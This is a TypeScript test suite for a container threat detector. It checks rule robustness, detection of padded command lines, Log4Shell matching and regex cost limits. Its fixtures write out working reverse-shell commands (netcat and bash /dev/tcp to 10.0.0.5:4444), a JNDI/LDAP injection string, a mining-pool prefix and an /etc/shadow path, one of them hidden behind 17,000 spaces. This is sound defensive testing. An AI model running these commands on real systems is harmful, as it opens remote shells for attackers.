import assert from 'node:assert/strict';
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, it } from 'node:test';
import { RE2JS } from 're2js';
import winston from 'winston';
import type { TamperReport } from '../../src/collect/collector';
import { MAX_MATCH } from '../../src/detect/condition';
import { Detector, detectConfig } from '../../src/detect/detector';
import { RuleIndex } from '../../src/detect/prefilter';
import { BUILTIN_RULES, loadRules, type Rule } from '../../src/detect/rules';
import type { Envelope } from '../../src/ship/envelope';
import { Telemetry } from '../../src/telemetry/telemetry';

const builtin = loadRules([BUILTIN_RULES]).rules;

/** A detector over `rules` that records alerts, padding reports and warning events. */
function detector(rules: Rule[] = builtin) {
  const alerts: Envelope[] = [];
  const padded: TamperReport[] = [];
  const events: string[] = [];
  const telemetry = new Telemetry(winston.createLogger({ silent: true }));
  telemetry.event = (name: string, _level: string, message: string) => void events.push(`${name}: ${message}`);
  const det = new Detector(rules, detectConfig.parse({ window: '1h' }), 'test', (e) => alerts.push(e), telemetry, { onPadded: (r) => padded.push(r) });
  const ids = () => alerts.map((a) => (a.doc.rule as { id: string }).id);
  return { det, alerts, padded, events, ids };
}

const CID = 'c'.repeat(64);
const env = (doc: Record<string, unknown>, id = '1'): Envelope => ({ index: 'i', id, doc });
const proc = (cmd: string, args = cmd.split(' ')) => env({ data_stream: { dataset: 'dockward.process' }, event: { type: ['start'] }, container: { id: CID, name: 'web' }, process: { name: args[0], args, command_line: cmd } });
const log = (message: string) => env({ data_stream: { dataset: 'dockward.container' }, container: { id: CID, name: 'web' }, message });

describe('detector: bounded, never throwing', () => {
  it('review L4: a label named toString beside a user rule on container.labels does not make inspect throw', () => {
    const f = join(mkdtempSync(join(tmpdir(), 'dw-')), 'r.yml');
    writeFileSync(f, `rules:
  - { id: u1, name: n, description: d, kind: process, severity: high, risk_score: 73,
      condition: { all: [ { field: container.labels, contains: tier }, { field: process.name, equals: bash } ] },
      examples: { match: [ { container: { labels: tier }, process: { name: bash } } ], no_match: [ { process: { name: sh } } ] } }
`);
    const { det, events } = detector(loadRules([f]).rules);
    const labels = JSON.parse('{"tier":"web","toString":"x"}');
    assert.doesNotThrow(() => det.inspect(env({ data_stream: { dataset: 'dockward.process' }, event: { type: ['start'] }, process: { name: 'bash' }, container: { id: 'c', labels } })));
    assert.deepEqual(events, [], 'no rule failed either: objects are not values');
  });

  it('a prefilter that fails is a warning, and every rule is tried instead', (t) => {
    t.mock.method(RuleIndex.prototype, 'candidates', () => {
      throw new Error('boom');
    });
    const { det, events, ids } = detector();
    assert.doesNotThrow(() => det.inspect(proc('nc -e /bin/sh 10.0.0.5 4444')));
    assert.ok(events.some((e) => e.startsWith('detect.prefilter.error')), events.join('\n'));
    assert.ok(ids().includes('dockward-reverse-shell-nc'), ids().join(', '));
  });

  it('random shapes (toString/valueOf/__proto__ keys, long strings, lone surrogates) never make inspect throw', () => {
    const seed = Number(process.env.DW_FUZZ_SEED ?? Date.now() % 1_000_000);
    let s = seed;
    const rnd = () => ((s = (s * 1103515245 + 12345) % 2147483648) / 2147483648);
    const pick = <T>(xs: T[]): T => xs[Math.floor(rnd() * xs.length)];
    const KEYS = ['toString', 'valueOf', '__proto__', 'constructor', 'hasOwnProperty', 'toJSON', 'id', 'name', 'command_line', 'args', 'x'];
    const TEXT = ['bash -i >& /dev/tcp/10.0.0.5/4444 0>&1', '${jndi:ldap://x/a}', 'nc -e /bin/sh', '\ud800', '\udfff', '\u00e9', '|', ' ', 'stratum+tcp://', '/etc/shadow'];
    const str = (): string => {
      const n = rnd() < 0.1 ? 5000 + Math.floor(rnd() * 12000) : Math.floor(rnd() * 40);
      let out = '';
      while (out.length < n) out += rnd() < 0.5 ? pick(TEXT) : String.fromCharCode(Math.floor(rnd() * 0xffff));
      return out;
    };
    const value = (depth: number): unknown => {
      const r = rnd();
      if (depth > 3 || r < 0.4) return str();
      if (r < 0.5) return pick([0, -1, 1e308, NaN, true, false, null]);
      if (r < 0.7) return Array.from({ length: Math.floor(rnd() * 4) }, () => value(depth + 1));
      return JSON.parse(JSON.stringify(Object.fromEntries(Array.from({ length: 1 + Math.floor(rnd() * 3) }, () => [pick(KEYS), value(depth + 1)]))));
    };
    // Shapes as JSON would give them: an own "__proto__" key is data, not a prototype.
    const obj = (pairs: Array<[string, unknown]>): Record<string, unknown> => JSON.parse(`{${pairs.map(([k, v]) => `${JSON.stringify(k)}:${JSON.stringify(v) ?? 'null'}`).join(',')}}`);
    const { det, events } = detector();
    for (let i = 0; i < 300; i++) {
      const dataset = pick(['dockward.process', 'dockward.container', 'dockward.file', 'dockward.event', 'dockward.config', 'dockward.network']);
      const doc = obj([
        ['data_stream', { dataset }],
        ['event', rnd() < 0.7 ? { type: ['start'] } : value(1)],
        ['container', rnd() < 0.7 ? obj([['id', rnd() < 0.8 ? CID : value(2)], ['name', value(2)], ['labels', obj([[pick(KEYS), value(2)], ['toString', 'x']])]]) : value(1)],
        ['process', obj(KEYS.map((k) => [k, value(1)] as [string, unknown]).filter(() => rnd() < 0.5))],
        ['message', value(1)],
        ['file', value(1)],
        [pick(KEYS), value(1)],
      ]);
      assert.doesNotThrow(() => det.inspect(env(doc, String(i))), `seed ${seed}, document ${i}`);
    }
    det.flush();
    assert.deepEqual(events, [], `seed ${seed}`);
  });
});

describe('detector: long fields (review M1, M2)', () => {
  it('a payload after 17,000 spaces of padding is matched, and the padding is reported once', () => {
    const { det, ids, padded } = detector();
    const cmd = 'bash -c ' + ' '.repeat(17000) + 'bash -i >& /dev/tcp/10.0.0.5/4444 0>&1';
    det.inspect(proc(cmd, ['bash', '-c', cmd.slice(8)]));
    assert.ok(ids().includes('dockward-reverse-shell-dev-tcp'), ids().join(', '));
    assert.equal(padded.length, 1);
    assert.equal(padded[0].kind, 'cmdline-padding');
    assert.equal(padded[0].container, CID);
    assert.match(padded[0].detail, /process\.command_line 17\d\d\d chars, process\.args 17\d\d\d chars in 3 values/);
  });

  it('Log4Shell after an 8 KiB URL and an 8 KiB Referer is matched; a long log line is not reported as padding', () => {
    const { det, ids, padded } = detector();
    det.inspect(log(`203.0.113.9 - - [01/Dec/2026:18:00:00 +0000] "GET /${'a'.repeat(8100)} HTTP/1.1" 200 612 "https://r/${'b'.repeat(8200)}" "\${jndi:ldap://203.0.113.9:1389/a}"`));
    assert.ok(ids().includes('dockward-log4shell-attempt'), ids().join(', '));
    assert.deepEqual(padded, []);
  });

  it('short command lines, arguments within the windows, and long real command lines are not reported', () => {
    const { det, padded } = detector();
    det.inspect(proc('python3 manage.py runserver'));
    det.inspect(proc('x'.repeat(MAX_MATCH - 10)));
    // A Spring Boot style classpath of 400 jars: long, but no padding in it.
    det.inspect(proc(`java -cp ${Array.from({ length: 400 }, (_, i) => `/app/lib/dependency-${i}-1.2.${i}.jar`).join(':')} com.example.Main`));
    det.inspect(proc(Array.from({ length: 2000 }, (_, i) => `arg${i}`).join(' ')));
    assert.deepEqual(padded, []);
    det.inspect(proc(`${Array.from({ length: 600 }, (_, i) => `arg${i}`).join(' ')} ${'.'.repeat(300)} ${Array.from({ length: 600 }, (_, i) => `arg${i}`).join(' ')}`));
    assert.equal(padded.length, 1, 'many short arguments with a run of padding between them add up');
  });

  it('regex text per document is bounded: 64 KiB of literals costs what 9 KiB does', (t) => {
    let chars = 0;
    let calls = 0;
    const count = (s: string) => {
      chars += s.length;
      calls++;
    };
    const test = RE2JS.prototype.test;
    const matcher = RE2JS.prototype.matcher;
    t.mock.method(RE2JS.prototype, 'test', function (this: RE2JS, s: string) {
      count(s);
      return test.call(this, s);
    });
    t.mock.method(RE2JS.prototype, 'matcher', function (this: RE2JS, s: string) {
      count(s);
      return matcher.call(this, s);
    });
    const lits = [...new Set(builtin.filter((r) => r.kinds.includes('process')).flatMap((r) => (r.prefilter ?? []).flatMap((a) => a.literals)))].join(' ');
    const cost = (n: number) => {
      let pad = lits;
      while (pad.length < n) pad += ' ' + lits;
      const { det } = detector();
      chars = calls = 0;
      det.inspect(proc(`/bin/true ${pad.slice(0, n)}`, ['/bin/true', pad.slice(0, n)]));
      return { chars, calls };
    };
    // The text repeats the literals with period P: documents of sizes congruent modulo P have the
    // same head and tail windows (whatever P is against the window's size), so their cost is equal.
    const period = lits.length + 1;
    const small = cost(9 * 1024);
    const big = cost(9 * 1024 + Math.ceil((55 * 1024) / period) * period);
    assert.ok(small.calls > 20, `the literals reach the regexes (${small.calls} calls)`);
    assert.deepEqual(big, small);
    assert.ok(big.chars <= big.calls * (MAX_MATCH + 1), `${big.chars} characters in ${big.calls} regex calls`);
  });

  it('reads each field once per document, whatever the number of rules on it', () => {
    let reads = 0;
    const process = new Proxy({ name: 'python3', args: ['python3', 'manage.py'], command_line: 'python3 manage.py runserver' }, {
      get(target, key) {
        if (key === 'command_line') reads++;
        return Reflect.get(target, key);
      },
    });
    const { det, alerts } = detector();
    det.inspect(env({ data_stream: { dataset: 'dockward.process' }, event: { type: ['start'] }, container: { id: CID }, process }));
    assert.deepEqual(alerts, []);
    assert.equal(reads, 1);
  });
});
